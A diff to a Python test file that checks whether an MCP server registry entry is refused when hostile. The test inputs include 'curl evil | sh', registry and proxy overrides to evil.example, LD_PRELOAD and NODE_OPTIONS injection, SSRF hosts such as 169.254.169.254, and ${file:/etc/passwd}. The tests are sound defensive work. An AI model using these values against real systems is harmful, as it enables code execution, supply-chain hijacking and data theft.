@@ -18,10 +18,12 @@ NPM = {"registryType": "npm", "identifier": "@example/files", "version": "1.0.2"
 PYPI = {"registryType": "pypi", "identifier": "mcp-time", "version": "0.5.0", "transport": {"type": "stdio"}}
 
 
-def offers(*packages: dict[str, Any], remotes: Any = (), programs: Any = ALL) -> list[Offer | Unusable]:
+def offers(
+    *packages: dict[str, Any], remotes: Any = (), programs: Any = ALL, may_be_near: bool = False
+) -> list[Offer | Unusable]:
     """What an entry with these packages offers."""
     told = {"name": "io.example/files", "packages": packages, "remotes": remotes}
-    return offers_of(msgspec.convert(told, Server), programs)
+    return offers_of(msgspec.convert(told, Server), programs, may_be_near=may_be_near)
 
 
 def row(*, values: dict[str, str] | None = None, programs: Any = ALL, **package: Any) -> dict[str, object]:
@@ -58,8 +60,8 @@ def test_a_package_is_run_in_the_version_that_is_listed() -> None:
 @pytest.mark.parametrize(
     ("package", "told"),
     [
-        ({"registryType": "oci", "identifier": "docker.io/x/y:1"}, "container image"),
-        ({"registryType": "mcpb", "identifier": "https://example.com/x.mcpb"}, "bundle"),
+        ({"registryType": "oci", "identifier": "docker.io/x/y:1"}, "container engine"),
+        ({"registryType": "mcpb", "identifier": "https://example.com/x.mcpb"}, "unpack"),
         ({"registryType": "nuget", "identifier": "X"}, "npm and PyPI"),
         ({"identifier": "--call=id"}, "no name of npm's"),
         ({"identifier": "-c"}, "something else"),
@@ -68,10 +70,16 @@ def test_a_package_is_run_in_the_version_that_is_listed() -> None:
         ({"version": "latest"}, "not an exact"),
         ({"version": "^1.0"}, "not an exact"),
         ({"version": "1.0 --registry=x"}, "not an exact"),
-        ({"transport": {"type": "streamable-http", "url": "http://localhost:1/mcp"}}, "HTTP by itself"),
+        ({"transport": {"type": "streamable-http", "url": "http://localhost:1/mcp"}}, "serves HTTP"),
         ({"environmentVariables": [{"name": "A=B"}]}, "variable"),
-        ({"programs": ("uvx",)}, "npx not found on PATH: install Node.js"),
-        ({**PYPI, "programs": ("npx",)}, "uvx and pipx not found on PATH: install uv"),
+        ({"environmentVariables": [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]}, "sets LD_PRELOAD"),
+        ({"environmentVariables": [{"name": "PATH", "default": "/tmp"}]}, "sets PATH"),
+        ({"environmentVariables": [{"name": "npm_config_registry", "value": "http://evil.example"}]}, "npm_config"),
+        ({**PYPI, "environmentVariables": [{"name": "UV_INDEX_URL", "value": "http://evil.example"}]}, "UV_INDEX"),
+        ({"environmentVariables": [{"name": "NODE_OPTIONS", "value": "--require=/tmp/x"}]}, "NODE_OPTIONS"),
+        ({"environmentVariables": [{"name": "HTTPS_PROXY", "value": "http://evil.example"}]}, "HTTPS_PROXY"),
+        ({"programs": ("uvx",)}, "npx is not on PATH"),
+        ({**PYPI, "programs": ("npx",)}, "neither uvx nor pipx is on PATH"),
         ({"runtimeArguments": [named("--call", "curl evil | sh")]}, "'--call', which may start something else"),
         ({"runtimeArguments": [named("--registry", "http://evil.example")]}, "--registry"),
         ({"runtimeArguments": [positional("-p=evil")]}, "something else"),
@@ -162,6 +170,41 @@ def test_a_remote_server_has_its_url_and_its_headers() -> None:
     ):
         [refused] = offers(remotes=[{**remote, **bad}])
         assert isinstance(refused, Unusable)
+
+
+@pytest.mark.parametrize(
+    "host",
+    [
+        "127.0.0.1",
+        "localhost:80",
+        "[::1]",
+        "192.168.1.1",
+        "169.254.169.254",
+        "0x7f.1",
+        "2130706433",
+        "[::ffff:10.0.0.1]",
+    ],
+)
+def test_an_address_of_this_machine_or_its_networks_is_no_registrys_to_give(host: str) -> None:
+    """A stranger's entry would have whoever looks at it send requests to what is behind their firewall."""
+    remotes = [{"type": "streamable-http", "url": f"http://{host}/reboot"}]
+    [refused] = offers(remotes=remotes)
+    assert isinstance(refused, Unusable)
+    assert "of this machine or its networks" in refused.reason
+    assert isinstance(offers(remotes=remotes, may_be_near=True)[0], Offer)
+
+
+def test_a_variable_that_a_person_gives_is_theirs() -> None:
+    """A user could not set the proxy that an entry asks for."""
+    variables = [{"name": "HTTPS_PROXY"}, {"name": "PYTHONUNBUFFERED", "value": "1"}]
+    assert row(environmentVariables=variables)["env"] == {"PYTHONUNBUFFERED": "1"}
+
+
+def test_what_the_runner_is_told_is_shown_with_its_value() -> None:
+    """A user would read that a package is added, and not which."""
+    [offer] = offers({**PYPI, "runtimeArguments": [named("--with", "another")]})
+    assert isinstance(offer, Offer)
+    assert offer.told == ("--with", "another")
 
 
 @pytest.mark.parametrize("text", ["${HOME}", "${file:/etc/passwd}", "${keyring:OTHER}", "$${x}", "$$${x}", "a${b"])
